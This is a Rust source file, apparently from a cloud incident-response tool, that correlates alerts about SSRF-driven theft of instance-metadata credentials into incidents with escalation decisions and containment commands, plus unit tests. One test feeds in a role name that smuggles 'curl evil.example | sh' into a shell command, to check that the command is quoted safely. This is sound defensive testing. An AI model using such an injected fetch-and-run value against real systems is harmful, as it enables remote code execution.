//! Triage: alerts become incidents. Alerts that share a credential, an instance or an attacker
//! address within an event-time gap are one incident (the chain SSRF or host read on instance X →
//! X's credential → used from address Y); each incident answers the runbook's four questions
//! with the alerts behind each answer, decides escalation from an explicit rubric, and proposes
//! an ordered containment plan with commands that name the real ids.
//!
//! Pure functions of the alert list: no clock, no I/O. Incident ids and order depend only on the
//! alerts, so they are the same for any thread count and input order.

mod answers;
mod containment;
mod correlate;
mod escalation;

use credtrail_detect::{Alert, Severity};
use credtrail_event::Timestamp;

pub use answers::Answer;
pub use containment::Step;
pub use escalation::{Decision, Escalation};

/// One incident: a set of alerts about one chain of events.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Incident {
    /// Stable id: a hash of the member alerts' ids.
    pub id: String,
    /// Indexes into the alert list given to [`incidents`], in output order.
    pub alerts: Vec<usize>,
    pub severity: Severity,
    pub first_evidence: Timestamp,
    pub last_evidence: Timestamp,
    pub escalation: Escalation,
    pub answers: Vec<Answer>,
    pub containment: Vec<Step>,
}

/// Alerts further apart than this in event time are separate incidents even when they share an
/// entity: a week-old recon of the same role is another story.
pub const GAP_SECONDS: i64 = 24 * 3600;

/// Turns alerts (in output order) into incidents, most urgent first.
pub fn incidents(alerts: &[Alert]) -> Vec<Incident> {
    let mut out: Vec<Incident> = correlate::groups(alerts)
        .into_iter()
        .map(|members| build(alerts, members))
        .collect();
    out.sort_by(|a, b| {
        (b.escalation.decision, b.severity, a.first_evidence, &a.id).cmp(&(
            a.escalation.decision,
            a.severity,
            b.first_evidence,
            &b.id,
        ))
    });
    out
}

fn build(alerts: &[Alert], members: Vec<usize>) -> Incident {
    let group: Vec<&Alert> = members.iter().map(|&i| &alerts[i]).collect();
    let mut ids: Vec<String> = group.iter().map(|a| a.id()).collect();
    ids.sort();
    let id = format!("inc-{:016x}", xxhash_rust::xxh3::xxh3_64(ids.join(",").as_bytes()));
    let severity = group.iter().map(|a| a.severity).max().unwrap_or(Severity::Info);
    let first_evidence = group.iter().map(|a| a.first_seen).min().unwrap_or_default();
    let last_evidence = group.iter().map(|a| a.last_seen).max().unwrap_or_default();
    Incident {
        id,
        severity,
        first_evidence,
        last_evidence,
        escalation: escalation::decide(&group),
        answers: answers::answer(&group),
        containment: containment::plan(&group),
        alerts: members,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use credtrail_detect::Entities;

    fn alert(rule: &'static str, severity: Severity, minute: i64, entities: Entities) -> Alert {
        let t = Timestamp::from_millis(1_772_358_000_000 + minute * 60_000);
        Alert {
            rule,
            variant: None,
            severity,
            first_seen: t,
            last_seen: t,
            title: format!("{rule} at {minute}"),
            entities,
            reasons: vec!["test".into()],
            evidence: Vec::new(),
            evidence_total: 0,
        }
    }

    fn on(instance: &str, ip: Option<&str>, key: Option<&str>) -> Entities {
        Entities {
            cloud: Some("aws".into()),
            instance: Some(instance.into()),
            role: Some("shop-web-role".into()),
            source_ip: ip.map(str::to_string),
            access_key: key.map(str::to_string),
            ..Default::default()
        }
    }

    /// The sample's chain: an SSRF from outside, the web worker reading IMDS, the credential
    /// used from the attacker's address, recon with it.
    fn chain() -> Vec<Alert> {
        vec![
            alert(
                "ssrf-metadata-request",
                Severity::Critical,
                0,
                on("i-0a1b2c3d4e5f60718", Some("198.51.100.23"), None),
            ),
            alert(
                "imds-credential-read-unexpected-process",
                Severity::High,
                0,
                on("i-0a1b2c3d4e5f60718", None, None),
            ),
            alert(
                "instance-credential-exfiltration",
                Severity::Critical,
                1,
                on(
                    "i-0a1b2c3d4e5f60718",
                    Some("198.51.100.23"),
                    Some("ASIASAMPLEKEYSTOLEN1"),
                ),
            ),
            alert(
                "instance-credential-recon",
                Severity::High,
                1,
                on(
                    "i-0a1b2c3d4e5f60718",
                    Some("198.51.100.23"),
                    Some("ASIASAMPLEKEYSTOLEN1"),
                ),
            ),
        ]
    }

    #[test]
    fn the_ssrf_the_host_read_and_the_credentials_use_are_one_escalated_incident() {
        let alerts = chain();
        let found = incidents(&alerts);
        assert_eq!(found.len(), 1, "{found:#?}");
        let inc = &found[0];
        assert_eq!(inc.alerts, vec![0, 1, 2, 3]);
        assert_eq!(inc.escalation.decision, Decision::EscalateT2);
        assert!(inc
            .escalation
            .reasons
            .iter()
            .any(|r| r.contains("used away from its workload")));
        assert_eq!(inc.answers.len(), 4);
        assert!(inc.answers[0].answer.starts_with("no: read by"), "{:?}", inc.answers[0]);
        assert!(inc.answers[3].answer.contains("198.51.100.23"), "{:?}", inc.answers[3]);
        let mut q4 = vec![alerts[0].id(), alerts[2].id()];
        q4.sort();
        assert_eq!(inc.answers[3].alerts, q4);
        assert!(
            inc.answers[3].answer.contains("credential was used from 198.51.100.23"),
            "{:?}",
            inc.answers[3]
        );
        let commands: Vec<&str> = inc.containment.iter().filter_map(|s| s.command.as_deref()).collect();
        assert!(commands
            .iter()
            .any(|c| c.contains("aws:TokenIssueTime") && c.contains("'shop-web-role'")));
        assert!(commands
            .iter()
            .any(|c| c.contains("--http-tokens required") && c.contains("'i-0a1b2c3d4e5f60718'")));
        assert!(commands.iter().any(|c| c.contains("198.51.100.23/32")));
    }

    #[test]
    fn an_administrators_address_on_a_configuration_change_is_not_blocked() {
        let mut alerts = chain();
        alerts.push(alert(
            "imds-hardening-downgrade",
            Severity::High,
            -10,
            on("i-0a1b2c3d4e5f60718", Some("203.0.113.10"), None),
        ));
        let found = incidents(&alerts);
        assert_eq!(found.len(), 1);
        let blocked: Vec<&str> = found[0]
            .containment
            .iter()
            .filter(|s| s.action.starts_with("Block"))
            .map(|s| s.action.as_str())
            .collect();
        assert_eq!(blocked, ["Block 198.51.100.23 at the edge (WAF IP set or network ACL)"]);
    }

    #[test]
    fn incidents_do_not_depend_on_alert_order() {
        let alerts = chain();
        let mut reversed = alerts.clone();
        reversed.reverse();
        let ids = |a: &[Alert]| -> Vec<(String, Vec<String>)> {
            incidents(a)
                .into_iter()
                .map(|i| {
                    let mut members: Vec<String> = i.alerts.iter().map(|&k| a[k].id()).collect();
                    members.sort();
                    (i.id, members)
                })
                .collect()
        };
        assert_eq!(ids(&alerts), ids(&reversed));
    }

    #[test]
    fn unrelated_instances_and_private_addresses_stay_apart_and_a_gap_splits() {
        let alerts = vec![
            alert(
                "imds-access-failures",
                Severity::Medium,
                0,
                on("i-01", Some("10.0.0.5"), None),
            ),
            alert(
                "imds-access-failures",
                Severity::Medium,
                1,
                on("i-02", Some("10.0.0.5"), None),
            ),
            alert("imds-hardening-downgrade", Severity::High, 0, on("i-03", None, None)),
            alert(
                "imdsv1-credential-delivery",
                Severity::Low,
                3 * 24 * 60,
                on("i-03", None, None),
            ),
        ];
        let found = incidents(&alerts);
        assert_eq!(found.len(), 4, "{found:#?}");
    }

    #[test]
    fn routine_readers_close_and_medium_findings_are_monitored() {
        let mut sdk = alert(
            "imds-credential-read-unexpected-process",
            Severity::Low,
            0,
            on("i-01", None, None),
        );
        sdk.variant = Some("unlisted");
        let found = incidents(&[sdk]);
        assert_eq!(found[0].escalation.decision, Decision::CloseBenign);
        let found = incidents(&[alert(
            "imds-access-failures",
            Severity::Medium,
            0,
            on("i-01", None, None),
        )]);
        assert_eq!(found[0].escalation.decision, Decision::Monitor);
        assert!(found[0].answers[2].answer.starts_with("yes"));
        assert!(
            found[0].answers[0].answer.contains("no unexpected reader"),
            "{:?}",
            found[0].answers[0]
        );
    }

    #[test]
    fn a_hostile_role_name_cannot_break_out_of_the_command() {
        let mut e = on("i-01", Some("198.51.100.23"), Some("ASIAX"));
        e.role = Some("x'; curl evil.example | sh; '".into());
        let found = incidents(&[alert("instance-credential-exfiltration", Severity::High, 0, e)]);
        let revoke = found[0].containment[0].command.clone().unwrap_or_default();
        assert!(
            revoke.contains(r"--role-name 'x'\''; curl evil.example | sh; '\'''"),
            "{revoke}"
        );
    }
}
